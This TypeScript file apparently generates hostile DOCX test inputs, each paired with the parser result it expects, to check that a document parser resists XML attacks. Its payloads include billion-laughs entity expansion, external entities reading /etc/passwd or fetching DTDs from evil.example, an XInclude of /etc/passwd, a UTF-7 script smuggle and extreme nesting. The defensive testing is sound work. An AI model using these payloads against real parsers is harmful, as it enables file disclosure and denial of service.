import { docxParts, namespaces, paragraph } from '../docx.ts'
import { packParts } from '../../src/package/pack.ts'
import { soundSource, text, type HostileFile } from './hostile-file.ts'

type Expected = HostileFile['expect']
const open = `<w:document ${namespaces}><w:body>`
const close = '</w:body></w:document>'
const of = (said: string) => `${open}<w:p><w:r><w:t>${said}</w:t></w:r></w:p>${close}`

const laughs = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')

const types: Record<string, string> = {
  'a plain document type': '<!DOCTYPE w:document>',
  'billion laughs': `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]>`,
  'quadratic blow-up': `<!DOCTYPE a [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
  'a file as entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  'an address as entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/x">]>',
  'a public entity': '<!DOCTYPE a [<!ENTITY x PUBLIC "-//A//B" "http://evil.example/x">]>',
  'a parameter entity': '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
  'an outer subset': '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">',
  'a device': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///dev/zero">]>',
  'a default attribute': '<!DOCTYPE a [<!ATTLIST w:p xmlns:evil CDATA "u">]>',
  'a notation': '<!DOCTYPE a [<!NOTATION n SYSTEM "cmd.exe">]>',
}

const texts: Record<string, [string, Expected]> = {
  'an undefined entity': [of('&nbsp;'), 'damaged'],
  'an entity named like a property': [of('&constructor;&__proto__;&toString;'), 'damaged'],
  'an endless entity': [of(`&${'a'.repeat(200_000)}`), 'damaged'],
  'a lone ampersand': [of('a & b'), 'damaged'],
  'a NUL by number': [of('&#0;'), 'damaged'],
  'a lone surrogate by number': [of('&#xD800;'), 'damaged'],
  'a pair of surrogates by numbers': [of('&#xD83D;&#xDE00;'), 'damaged'],
  'a number past Unicode': [of('&#x110000;'), 'damaged'],
  'an enormous number': [of(`&#${'9'.repeat(5_000)};`), 'damaged'],
  'a negative number': [of('&#-1;'), 'damaged'],
  'a control character by number': [of('&#1;'), 'damaged'],
  'a NUL': [of('a\0b'), 'damaged'],
  'a control character': [of('a\x08b'), 'damaged'],
  'a non-character': [of('a\uffffb'), 'damaged'],
  'five entities': [of('&lt;&gt;&amp;&quot;&apos;&#x1F600;'), 'opens'],
  'an unclosed element': [open, 'damaged'],
  'crossed elements': [`${open}<w:p><w:r></w:p></w:r>${close}`, 'damaged'],
  'two roots': [`${of('a')}<w:document xmlns:w="u"/>`, 'damaged'],
  'no root': ['<?xml version="1.0"?>', 'damaged'],
  nothing: ['', 'damaged'],
  'only blanks': ['   \n', 'damaged'],
  'text only': ['Rivers carry silt.', 'damaged'],
  'another root': ['<html><body/></html>', undefined],
  'an unbound prefix': ['<x:document/>', 'damaged'],
  'an attribute twice': [`${open}<w:p w:a="1" w:a="2"/>${close}`, 'damaged'],
  'an attribute twice by two prefixes': [`${open}<w:p xmlns:b="u" xmlns:c="u" b:a="1" c:a="2"/>${close}`, 'damaged'],
  'an attribute named __proto__': [`${open}<w:p __proto__="1" constructor="2"/>${close}`, 'opens'],
  'an element named __proto__': [`${open}<__proto__/><constructor/>${close}`, 'opens'],
  'a prefix bound to nothing': [`${open}<a:b xmlns:a=""/>${close}`, 'damaged'],
  'the prefix xml bound anew': [`${open}<a xmlns:xml="u"/>${close}`, 'damaged'],
  'the prefix xmlns': [`${open}<xmlns:a/>${close}`, 'damaged'],
  'an unclosed comment': [`${open}<!-- ${close}`, 'damaged'],
  'two hyphens in a comment': [`${open}<!-- a -- b -->${close}`, 'damaged'],
  'an unclosed section': [`${open}<![CDATA[ ${close}`, 'damaged'],
  'the end of a section in text': [of('a ]]> b'), 'damaged'],
  'an unclosed instruction': [`${open}<?a ${close}`, 'damaged'],
  'an instruction': [`<?mso-application progid="Word.Document"?>${of('a')}`, 'opens'],
  'a style sheet': [`<?xml-stylesheet type="text/xsl" href="http://evil.example/a.xsl"?>${of('a')}`, 'opens'],
  'a late declaration': [` <?xml version="1.0"?>${of('a')}`, 'damaged'],
  'another version': [`<?xml version="1.1"?>${of('a')}`, undefined],
  'a future version': [`<?xml version="2.0"?>${of('a')}`, undefined],
  'an inclusion': [
    `${open}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>${close}`,
    'opens',
  ],
  'UTF-7, as it says': [`<?xml version="1.0" encoding="UTF-7"?>${of('+ADw-script+AD4-')}`, 'wrong-encoding'],
  'Latin-1, as it says': [`<?xml version="1.0" encoding="ISO-8859-1"?>${of('a')}`, 'wrong-encoding'],
  'EBCDIC, as it says': [`<?xml version="1.0" encoding="cp037"?>${of('a')}`, 'wrong-encoding'],
  'UTF-16, as it says': [`<?xml version="1.0" encoding="UTF-16"?>${of('a')}`, 'wrong-encoding'],
  'UTF-32, as it says': [`<?xml version="1.0" encoding="UTF-32"?>${of('a')}`, 'wrong-encoding'],
  'an encoding of nothing': [`<?xml version="1.0" encoding=""?>${of('a')}`, 'damaged'],
}

const utf16 = (said: string, mark = '\ufeff') => new Uint8Array(Buffer.from(`${mark}${said}`, 'utf16le'))
const swapped = (said: string) => new Uint8Array(Buffer.from(`\ufeff${said}`, 'utf16le').swap16())

const encodings: Record<string, [Uint8Array, Expected]> = {
  'UTF-16': [utf16(of('a')), 'opens'],
  'UTF-16, the other way round': [swapped(of('a')), 'opens'],
  'UTF-16 that says so': [utf16(`<?xml version="1.0" encoding="UTF-16"?>${of('a')}`), 'opens'],
  'UTF-16 that says UTF-8': [utf16(`<?xml version="1.0" encoding="UTF-8"?>${of('a')}`), 'wrong-encoding'],
  'UTF-16 without its mark': [utf16(of('a'), ''), 'damaged'],
  'UTF-16 with a lone surrogate': [utf16(of('a\ud800b')), 'wrong-encoding'],
  'UTF-16 with a document type': [utf16(`<!DOCTYPE a>${of('a')}`), 'document-type'],
  'UTF-16 cut in a character': [utf16(of('a')).subarray(0, -1), 'wrong-encoding'],
  'UTF-8 with its mark': [text(`\ufeff${of('a')}`), 'opens'],
  'UTF-8 with two marks': [text(`\ufeff\ufeff${of('a')}`), 'opens'],
  'UTF-32': [Uint8Array.from([0, 0, 0xfe, 0xff, 0, 0, 0, 0x3c]), undefined],
  'bytes of Latin-1': [Buffer.from(of('caf\xe9'), 'latin1'), 'wrong-encoding'],
  'overlong bytes': [Buffer.from(of('\xc0\xbcscript'), 'latin1'), 'wrong-encoding'],
  'surrogates as bytes': [Buffer.from(of('\xed\xa0\xbd'), 'latin1'), 'wrong-encoding'],
  'random control bytes': [Uint8Array.from({ length: 500 }, (_, at) => at % 32), undefined],
}

/**
 * XML attacks on naive parsers (external entities, entity expansion, deep nesting), in each part that is read first.
 */
export function* xmlFamily(): Generator<HostileFile> {
  for (const part of ['word/document.xml', '[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels']) {
    const sound = new TextDecoder().decode(docxParts(soundSource).get(part))
    for (const [what, type] of Object.entries(types)) yield made(what, part, text(type + sound), 'document-type')
    const body = sound.replace(/<([\w:]+)/, '<$1 a="&x;&l9;"')
    for (const [what, type] of Object.entries(types))
      yield made(`${what}, used`, part, text(type + body), 'document-type')
  }
  for (const [what, [said, expect]] of Object.entries(texts)) yield made(what, 'word/document.xml', text(said), expect)
  for (const [what, [said]] of Object.entries(texts)) yield made(what, '[Content_Types].xml', text(said))
  for (const [what, [said]] of Object.entries(texts)) yield made(what, 'word/styles.xml', text(said))
  for (const [what, [bytes, expect]] of Object.entries(encodings)) yield made(what, 'word/document.xml', bytes, expect)
  for (const depth of [200, 254, 256, 1_000, 50_000]) {
    const nested = `${open}${'<w:p>'.repeat(depth)}${'</w:p>'.repeat(depth)}${close}`
    yield made(`${depth} deep`, 'word/document.xml', text(nested), depth > 254 ? 'too-complex' : 'opens')
    const runs = `${open}${'<w:ins>'.repeat(depth)}${paragraph('in')}`
    yield made(`${depth} deep and open`, 'word/document.xml', text(runs), depth > 253 ? 'too-complex' : 'damaged')
  }
  // No code reads this part, so it may be invalid.
  for (const broken of ['', '<a>', '<!DOCTYPE a>', '\0'])
    yield made('a part that is not needed', 'customXml/item1.xml', text(broken), 'opens')
}

function made(what: string, part: string, bytes: Uint8Array, expect?: Expected): HostileFile {
  const parts = docxParts(soundSource).set(part, bytes)
  return { name: `xml: ${what} in ${part}`, bytes: packParts(parts), ...(expect && { expect }) }
}
